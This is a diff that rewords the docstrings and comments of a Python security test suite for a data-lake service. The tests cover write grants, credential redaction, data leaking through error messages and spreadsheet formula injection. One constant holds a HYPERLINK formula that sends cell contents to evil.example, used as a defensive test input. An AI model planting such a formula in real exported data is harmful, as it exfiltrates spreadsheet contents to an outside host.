@@ -1,5 +1,5 @@
-"""Attempts to write to what one may only read, to find credentials in what plantlake says, to have data carried off by an error's
-text, and to have a spreadsheet run what a user is called. Each is refused, or shows nothing."""
+"""Attempts to write with a read grant, to obtain credentials from output, to leak data through error texts, and to inject
+spreadsheet formulas through user names. Each is refused, or reveals nothing."""
 
 from __future__ import annotations
 
@@ -37,7 +37,7 @@ FORMULA = "=HYPERLINK(\"http://evil.example?x=\"&A1,\"more\")"
 
 
 def may_send(plant: Plant, tenant: str, user: bool = True, key: bool = True) -> str:
-    """A key of a new user, with the permissions that an admin of the organisation could give."""
+    """Returns a key of a new user, with the permissions that an admin of the organisation could give."""
     email = f"g{time.monotonic_ns()}@{tenant.lower()}.example"
     allow = ["--ingest"] if user or key else []
     plant.run("user", "create", email, "--org", tenant, "--role", "service", *allow).expect(OK)
@@ -49,8 +49,8 @@ def may_send(plant: Plant, tenant: str, user: bool = True, key: bool = True) -> 
 
 @pytest.fixture(scope="module")
 def plant(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Plant]:
-    """North may write to its own assets, and read one of South's; South may read only; Everything may read all, and write to
-    the assets of one type."""
+    """North may write to its own assets and read one of South's. South may only read. Everything may read all assets and write
+    to those of one type."""
     plant = Plant(tmp_path_factory.mktemp("grants")).build()
     measured = set(plant.lake.table("data_d")["asset_id"])
     plant.own = {name: sorted(tenant.assets & measured) for name, tenant in plant.tenants.items()}
@@ -73,7 +73,7 @@ def plant(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Plant]:
 
 
 def told(plant: Plant, key: str, assets: list[str], each: int = 2) -> str | None:
-    """What an ingest is refused with; none if it is taken."""
+    """Sends readings and returns the error of the ingest, or None if it succeeds."""
     with connect(plant.uri, {BEARER: f"Bearer {key}"}) as connection:
         try:
             assert send(connection, readings(assets, each, START)) == each * len(assets)
@@ -82,7 +82,7 @@ def told(plant: Plant, key: str, assets: list[str], each: int = 2) -> str | None
     return None
 
 
-# ---- who may send readings for what
+# ---- write grants
 
 
 def test_ingest_needs_a_write_grant_and_both_permissions(plant: Plant) -> None:
@@ -119,14 +119,14 @@ def test_ingest_needs_a_write_grant_and_both_permissions(plant: Plant) -> None:
 
 
 def test_an_admin_cannot_raise_what_the_operator_granted(plant: Plant) -> None:
-    """The finding: an organisation with a read grant gave itself `may_ingest`, and overwrote the owner's averages."""
+    """A former vulnerability: an organisation with a read grant gave itself `may_ingest` and overwrote the owner's averages."""
     before = raw_files(plant)
     admin = ["--server", plant.uri, "--as", plant.tenants["South"].email("admin")]
     secret = PASSWORD + "\n"
     plant.run("user", "create", "mine@south.example", "--role", "service", "--ingest", *admin, stdin=secret)
     made = json.loads(plant.run("key", "create", "--user", "mine@south.example", "--name", "k", "--ingest", "--json", *admin, stdin=secret))
     assert "write to none" in told(plant, made["key"], [plant.shared])
-    # Nor by any statement, action or command that a server takes.
+    # No statement, action or command of the server allows it either.
     orders = [
         {"order": "grant", "organisation": "South", "kind": "all", "value": "", "access": "write"},
         {"order": "change_user", "email": "mine@south.example", "role": None, "name": None, "may_ingest": True, "write_grants": ["all"]},
@@ -145,7 +145,7 @@ def test_an_admin_cannot_raise_what_the_operator_granted(plant: Plant) -> None:
 
 
 def test_a_write_grant_allows_corrections(plant: Plant) -> None:
-    """A reading of the same asset and instant replaces what the raw folder has: that is what writing means."""
+    """A reading with the same asset and time replaces the one in the raw folder; a write grant includes this."""
     asset = plant.own["North"][1]
     question = f"SELECT timestamp, value FROM raw_readings WHERE id = '{asset}' AND value IS NOT NULL ORDER BY 1 LIMIT 1"
     at = plant.ask(question)["timestamp"][0].to_pydatetime()
@@ -208,7 +208,7 @@ def test_an_ingest_ends_when_the_right_to_it_does(plant: Plant, how: str) -> Non
             raise failure[0]
         assert raw_files(plant) == before
         if how == "narrowed":
-            # What is left of the right can be used.
+            # The remaining part of the grant still works.
             assert eventually(lambda: told(plant, made["key"], [asset]) is None) < 5
             assert "for reading only" in told(plant, made["key"], [plant.own["North"][1]])
             plant.run("org", "revoke", tenant, *narrower).expect(OK)
@@ -224,14 +224,14 @@ def test_two_organisations_write_to_the_same_assets_only_if_the_operator_says_so
     for wider in (["--all"], ["--asset", plant.own["North"][0]]):
         plant.run("org", "grant", "South", *wider, "--write").expect(FAILURE)
     assert plant.run("org", "show", "South", "--json").expect(OK).json["assets_writable"] == 0
-    # Reading is no matter of others, and neither is writing to other assets.
+    # Reading, or writing to other assets, needs no permission to share.
     plant.run("org", "grant", "South", *rule).expect(OK)
     plant.run("org", "grant", "South", "--type", "pressure sensor", "--write").expect(OK)
     plant.run("org", "grant", "South", *rule, "--write", "--share-writing").expect(OK)
     shown = plant.run("org", "show", "South").expect(OK)
     assert "\"North\" (" in shown.err and "with writing" in shown.text
     plant.run("org", "grant", "South", *rule, "--share-writing").expect(USAGE)
-    # What is taken back leaves the reading.
+    # Revoking the write grant leaves the read grant.
     plant.run("org", "revoke", "South", *rule, "--type", "pressure sensor", "--write").expect(OK)
     shown = plant.run("org", "show", "South", "--json").expect(OK).json
     assert shown["assets_writable"] == 0 and shown["assets_visible"] > 0
@@ -250,14 +250,14 @@ def test_who_sends_without_a_write_grant_is_named_to_the_operator(plant: Plant) 
     assert "North" not in finding["found"]
 
 
-# ---- credentials in what is said
+# ---- credentials in output
 
 HUSH = "Tr0ub4dorHush"
 
 
 @pytest.fixture(scope="module")
 def store() -> Iterator[str]:
-    """An object store that refuses everything at once, and repeats what it was asked for."""
+    """An object store that refuses every request at once, and repeats its path in the error."""
 
     class Refusing(http.server.BaseHTTPRequestHandler):
         def answer(self) -> None:
@@ -281,7 +281,7 @@ def store() -> Iterator[str]:
 
 @pytest.fixture(scope="module")
 def database() -> Iterator[str]:
-    """A Postgres that lets nobody in, and says so at once."""
+    """A Postgres server that refuses every connection at once."""
 
     class Refusing(socketserver.BaseRequestHandler):
         def handle(self) -> None:
@@ -289,7 +289,7 @@ def database() -> Iterator[str]:
                 while True:
                     size = int.from_bytes(self.request.recv(4, socket.MSG_WAITALL) or b"\0\0\0\4")
                     asked = self.request.recv(size - 4, socket.MSG_WAITALL)
-                    if asked[:4] == (80877103).to_bytes(4):  # for TLS
+                    if asked[:4] == (80877103).to_bytes(4):  # an SSLRequest
                         self.request.sendall(b"N")
                         continue
                     said = b"SFATAL\0VFATAL\0C28P01\0Mno entry\0\0"
@@ -304,7 +304,7 @@ def database() -> Iterator[str]:
 
 
 def credentials(store: str, database: str) -> dict[str, dict[str, str]]:
-    """Settings that have a secret in them, by what they are an instance of."""
+    """Returns settings that contain a secret, by a description of each."""
     s3 = {"STORAGE_AWS_ENDPOINT": f"http://{store}", "STORAGE_AWS_REGION": "x", "STORAGE_AWS_ALLOW_HTTP": "true",
           "STORAGE_AWS_ACCESS_KEY_ID": "id", "STORAGE_AWS_SECRET_ACCESS_KEY": HUSH}
     gone = "127.0.0.1:1"
@@ -336,7 +336,7 @@ def credentials(store: str, database: str) -> dict[str, dict[str, str]]:
 
 COMMANDS = [["config"], ["config", "--json"], ["doctor"], ["doctor", "--json"], ["status"], ["query", "SELECT 1"], ["org", "list"], ["migrate"],
             ["serve", "--listen", "127.0.0.1:0"], ["resample"], ["mirror"], ["run", "mirror"], ["jobs"]]
-# The commands that a setting matters to, other than those that tell all settings.
+# The commands that use each setting, apart from those that print all settings.
 MATTERS = {"lake": ["status", "query", "resample"], "raw": ["resample", "status"], "endpoint": ["status"], "proxy": ["status"], "storage token": ["status"],
            "organisation": ["org", "migrate", "serve", "jobs"], "mirror": ["mirror", "run"], "qdrant": [], "webhook": [], "issuer": []}
 
@@ -372,7 +372,7 @@ def test_nothing_says_the_credentials_of_a_setting(store: str, database: str, tm
 
 
 def test_what_a_job_failed_of_is_kept_without_credentials(database: str, tmp_path: Path) -> None:
-    """It goes into the history, from there into `jobs` and `status`, and to the webhook."""
+    """The error of a job is stored in the history, shown by `jobs` and `status`, and sent to the webhook."""
     settings = {"PLANTLAKE_MIRROR_URL": f"postgres://me:{HUSH}@{database}/db", "PLANTLAKE_MIRROR_RETRY_FOR": "1s"}
     (tmp_path / "jobs").mkdir()
     (tmp_path / "jobs" / "mirror.toml").write_text('kind = "mirror"\nretries = 0\n')
@@ -381,18 +381,18 @@ def test_what_a_job_failed_of_is_kept_without_credentials(database: str, tmp_pat
     with closing(sqlite3.connect(tmp_path / "lake" / ".state" / "organisation.db")) as database:
         rows = database.execute("SELECT error FROM job_runs").fetchall()
         assert rows and rows[0][0] and HUSH not in str(rows), rows
-        # One of before, which was written with them.
+        # An entry of an older version, which stored credentials.
         database.execute(f"UPDATE job_runs SET error = 'cannot reach postgres://me:{HUSH}@127.0.0.1:1/db'")
         database.commit()
     told = run(["jobs", "history"], settings, tmp_path)
     assert "me:******@127.0.0.1" in told.text and HUSH not in told.text, str(told)
 
 
-# ---- what errors tell of data
+# ---- data in error texts
 
 
 def texts_of_values(asset: str) -> dict[str, str]:
-    """Statements whose errors quote a value that is made of data, and long."""
+    """Returns statements whose errors quote a long value that contains data."""
     long = f"repeat(asset_id, 50)"
     scan = f"FROM data_h WHERE asset_id = '{asset}' LIMIT 5"
     return {
@@ -427,7 +427,7 @@ def test_an_error_quotes_a_glance_of_a_value_and_says_how_long_it_is(plant: Plan
             continue
         except REFUSALS as error:
             text = str(error)
-        # 64 characters are not two ids.
+        # The quoted part is limited to 64 characters, which is less than two ids.
         assert len(re.findall(re.escape(asset), text)) <= 2, f"{name}: {text}"
         assert len(text) < 1_500 and "\x1b" not in text, f"{name}: {text}"
         cut += " characters)" in text
@@ -435,7 +435,7 @@ def test_an_error_quotes_a_glance_of_a_value_and_says_how_long_it_is(plant: Plan
 
 
 def test_an_error_fits_into_a_header_whatever_was_sent(plant: Plant) -> None:
-    """gRPC sends it in one, percent-encoded; clients take 8 KiB of headers, and break off at more."""
+    """gRPC sends the error percent-encoded in a header; clients accept 8 KiB of headers and fail above that."""
     client = plant.client("North")
     key = plant.keys["North"]
     texts = {"long": "x" * 100_000, "wide": "界" * 10_000, "marks": "%" * 50_000, "control": "\x1b[2J\x07\r\n\t" * 1_000, "bidi": "\u202e" * 2_000}
@@ -459,7 +459,7 @@ def test_an_error_fits_into_a_header_whatever_was_sent(plant: Plant) -> None:
             error = caught.value
             message = str(error)
             assert not isinstance(error, flight.FlightInternalError) and "INTERNAL" not in message.upper()[:40], f"{name} {call}: {message[:300]}"
-            assert len(message) < 5_000, f"{name} {call}: {len(message)}"  # pyarrow says some twice
+            assert len(message) < 5_000, f"{name} {call}: {len(message)}"  # pyarrow repeats some texts
             assert not any(sign in message for sign in "\x1b\x07\u202e\r"), f"{name} {call}: {message!r:.300}"
 
 
@@ -515,6 +515,6 @@ def test_reports_have_no_formulas_and_keep_their_numbers(plant: Plant) -> None:
         amounts = [column for column in table if column in ("requests", "bytes_sent", "quantity", "price", "amount")]
         assert amounts and all(pd.api.types.is_numeric_dtype(table[column]) for column in amounts)
     assert all(f"'{email}" in plant.run(*reports[0]).text for email in users.values())
-    # An answer is data, to the letter.
+    # Query results are exact data, without escaping.
     exact = plant.run("query", "SELECT '=1+1' AS a, '-x' AS b", "--format", "csv").expect(OK).text
     assert exact == "a,b\n=1+1,-x\n", exact
